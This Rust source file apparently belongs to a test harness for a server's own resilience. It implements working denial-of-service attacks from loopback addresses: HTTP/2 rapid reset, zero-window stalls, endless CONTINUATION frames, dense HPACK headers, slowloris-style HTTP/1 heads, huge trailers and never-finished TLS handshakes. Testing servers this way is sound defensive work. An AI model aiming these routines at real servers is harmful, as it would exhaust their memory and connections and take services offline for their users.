//! Attacks by those who reach the port and have no key: they cost the server memory and time, and show nothing.
//!
//! Each goes on, wave after wave, until it is told to stop. They come from addresses of their own (Linux answers on
//! all of
//! 127.0.0.0/8), so that a good caller can be told from them.

use crate::frames::{
    END_HEADERS, END_STREAM, PAYLOAD_MAX, continuation, data, greeting, headers, literal, ping, post_block,
    reset,
};
use socket2::{Domain, Socket, Type};
use std::io::{self, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

const PATH: &str = "/v1/bonuses/send";
/// How long the connections of a wave are held.
const HOLD: Duration = Duration::from_millis(700);
/// The connections of most waves.
const MANY: usize = 600;
/// What a connection is waited for.
const CONNECT_TIME: Duration = Duration::from_secs(2);

/// An attack.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    /// What it does.
    pub name: &'static str,
    connections: usize,
    says: fn() -> Vec<u8>,
}

/// Where an attack comes from and goes to.
#[derive(Debug)]
pub struct Siege<'a> {
    /// The server.
    pub address: SocketAddr,
    /// The number of addresses that the attack comes from, 1 to 200.
    pub sources: u8,
    /// Ends it.
    pub stop: &'a AtomicBool,
}

/// What an attack did.
#[derive(Debug, Default, Clone, Copy)]
pub struct Waged {
    /// The connections that it opened.
    pub connections: usize,
    /// The bytes that were taken from it.
    pub bytes: usize,
}

/// All attacks on a port without TLS.
pub const ATTACKS: [Attack; 11] = [
    Attack { name: "zero window, 256 streams", connections: MANY, says: zero_window },
    Attack { name: "a window of one byte", connections: MANY, says: tiny_window },
    Attack { name: "all connections", connections: 5_000, says: || greeting(65_535) },
    Attack { name: "rapid reset", connections: 100, says: rapid_reset },
    Attack { name: "continuations without end", connections: MANY, says: continuations },
    Attack { name: "dense headers over HTTP/2", connections: MANY, says: dense_headers },
    Attack { name: "half heads over HTTP/1", connections: MANY, says: half_head },
    Attack { name: "trailers over HTTP/2", connections: MANY, says: trailers },
    Attack { name: "trailers over HTTP/1", connections: MANY, says: chunked_trailers },
    Attack { name: "bodies without a key", connections: MANY, says: bodies },
    Attack { name: "pings and calls whose answers nobody reads", connections: MANY, says: unread },
];

/// The attack on a port with TLS: handshakes that never end.
pub const SLOW_HANDSHAKES: Attack =
    Attack { name: "TLS handshakes without end", connections: MANY, says: half_handshake };

impl Attack {
    /// Attacks until it is told to stop.
    pub fn wage(&self, siege: &Siege<'_>) -> Waged {
        let says = (self.says)();
        let mut waged = Waged::default();
        while !siege.stop.load(Ordering::Relaxed) {
            self.wave(siege, &says, &mut waged);
        }
        waged
    }

    /// Opens all connections, and says on each what there is to say, as fast as it is taken; reads nothing.
    fn wave(&self, siege: &Siege<'_>, says: &[u8], waged: &mut Waged) {
        let mut open: Vec<(TcpStream, usize)> = Vec::new();
        for nth in 0..self.connections {
            if siege.stop.load(Ordering::Relaxed) {
                break;
            }
            let source =
                Ipv4Addr::new(127, 0, 1, 1 + u8::try_from(nth % usize::from(siege.sources)).unwrap_or(0));
            // A full server may not take it.
            let Ok(mut stream) = connect_from(source, siege.address) else { continue };
            waged.connections += 1;
            if stream.set_nonblocking(true).is_ok() {
                let said = say(&mut stream, says).unwrap_or(0);
                open.push((stream, said));
            }
        }
        let until = Instant::now() + HOLD;
        while Instant::now() < until && !siege.stop.load(Ordering::Relaxed) {
            open.retain_mut(|(stream, said)| match say(stream, &says[*said..]) {
                Ok(more) => {
                    *said += more;
                    true
                }
                Err(_) => {
                    waged.bytes += *said;
                    false
                }
            });
            thread::sleep(Duration::from_millis(20));
        }
        waged.bytes += open.iter().map(|(_, said)| said).sum::<usize>();
    }
}

/// A connection from this address of the machine.
///
/// # Errors
/// The operating system's error.
pub fn connect_from(source: Ipv4Addr, address: SocketAddr) -> io::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddr::from((source, 0)).into())?;
    socket.connect_timeout(&address.into(), CONNECT_TIME)?;
    Ok(socket.into())
}

/// Writes what is taken now, and tells how much that is.
fn say(stream: &mut TcpStream, bytes: &[u8]) -> io::Result<usize> {
    let mut said = 0;
    while said < bytes.len() {
        match stream.write(&bytes[said..]) {
            Ok(count) => said += count,
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => break,
            Err(error) => return Err(error),
        }
    }
    Ok(said)
}

/// Streams of a client, in order: odd numbers.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|nth| 2 * nth + 1)
}

fn calls(count: u32) -> Vec<u8> {
    let block = post_block(PATH);
    streams(count).flat_map(|stream| headers(stream, END_HEADERS | END_STREAM, &block)).collect()
}

fn zero_window() -> Vec<u8> {
    [greeting(0), calls(256)].concat()
}

/// Their answers are handed over whole to who writes them, and stay there.
fn tiny_window() -> Vec<u8> {
    [greeting(1), calls(256)].concat()
}

fn rapid_reset() -> Vec<u8> {
    let block = post_block(PATH);
    let one = |stream| [headers(stream, END_HEADERS | END_STREAM, &block), reset(stream)].concat();
    [greeting(65_535), streams(4_000).flat_map(one).collect()].concat()
}

/// A head that stays within the limit and does not end, and then nothing more, in as many frames as it takes.
fn continuations() -> Vec<u8> {
    let small: Vec<u8> = (0..800).flat_map(|nth| literal(&format!("x{nth}"), "")).collect();
    let mut said =
        [greeting(65_535), headers(1, END_STREAM, &post_block(PATH)), continuation(1, 0, &small)].concat();
    for _ in 0..20_000 {
        said.extend_from_slice(&continuation(1, 0, b""));
    }
    said
}

/// A byte of a block may stand for a header.
fn dense_headers() -> Vec<u8> {
    // `age`, without a value, is number 21 of the static table.
    let block = [post_block(PATH), vec![0x80 | 21; 900]].concat();
    [
        greeting(0),
        streams(256).flat_map(|stream| headers(stream, END_HEADERS | END_STREAM, &block)).collect(),
        headers(513, END_STREAM, &block),
    ]
    .concat()
}

fn half_head() -> Vec<u8> {
    let many = "x-many: 1\r\n".repeat(100);
    let long = format!("x-long: {}", "x".repeat(62 << 10));
    format!("POST {PATH} HTTP/1.1\r\nhost: h\r\n{many}{long}").into_bytes()
}

fn trailers() -> Vec<u8> {
    let small: Vec<u8> = (0..800).flat_map(|nth| literal(&format!("x{nth}"), "")).collect();
    let block = post_block(PATH);
    let one = |stream| {
        [
            headers(stream, END_HEADERS, &block),
            data(stream, 0, b"{"),
            headers(stream, END_STREAM, &small),
            continuation(stream, END_HEADERS, &small),
        ]
        .concat()
    };
    [greeting(0), streams(64).flat_map(one).collect()].concat()
}

fn chunked_trailers() -> Vec<u8> {
    let head =
        format!("POST {PATH} HTTP/1.1\r\nhost: h\r\ntransfer-encoding: chunked\r\n\r\n2\r\n{{}}\r\n0\r\n");
    let trailers = "x-trailer: 1\r\n".repeat(200_000);
    (head + &trailers).into_bytes()
}

/// As much as the windows of the connection let in.
fn bodies() -> Vec<u8> {
    let (block, piece) = (post_block(PATH), [b' '; PAYLOAD_MAX]);
    let one = |stream| {
        let pieces: Vec<u8> = (0..16).flat_map(|_| data(stream, 0, &piece)).collect();
        [headers(stream, END_HEADERS, &block), pieces].concat()
    };
    [greeting(0), streams(4).flat_map(one).collect()].concat()
}

fn unread() -> Vec<u8> {
    let mut said = greeting(65_535);
    for stream in streams(2_000) {
        said.extend_from_slice(&ping());
        said.extend_from_slice(&headers(stream, END_HEADERS | END_STREAM, &post_block(PATH)));
    }
    said
}

/// The first 48 KiB of a ClientHello of 60,000 bytes.
fn half_handshake() -> Vec<u8> {
    let hello = [&[1, 0, 0xea, 0x60, 3, 3][..], &[b'x'; 48 << 10]].concat();
    let record = |part: &[u8]| {
        let length = u16::try_from(part.len()).unwrap_or(0).to_be_bytes();
        [&[22, 3, 1][..], &length, part].concat()
    };
    hello.chunks(16 << 10).flat_map(record).collect()
}
